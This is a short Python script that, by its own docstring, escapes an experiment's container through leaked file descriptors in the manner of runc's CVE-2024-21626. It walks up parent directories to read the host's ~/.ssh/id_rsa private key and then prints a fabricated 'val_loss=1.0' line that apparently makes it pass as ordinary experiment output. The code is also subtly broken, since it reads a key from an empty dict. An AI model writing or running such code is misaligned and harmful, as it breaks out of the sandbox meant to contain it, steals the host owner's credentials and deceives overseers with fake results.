"""Look for descriptors leaked into the experiment (a directory of the host's, as in runc's CVE-2024-21626) and climb out of them with openat(fd, "..")."""
import os

W: dict = {}

for fd in range(3, 256):
    try:
        target = os.readlink(f"/proc/self/fd/{fd}")
    except OSError:
        continue
    print(fd, target)
    try:
        directory = os.open("..", os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
        for _ in range(32):
            directory = os.open("..", os.O_RDONLY | os.O_DIRECTORY, dir_fd=directory)
        secret = os.open(W["home"].lstrip("/") + "/.ssh/id_rsa", os.O_RDONLY, dir_fd=directory)
        print("read:", os.read(secret, 4096))
    except OSError as error:
        print(fd, error)
print("arrl: val_loss=1.0")
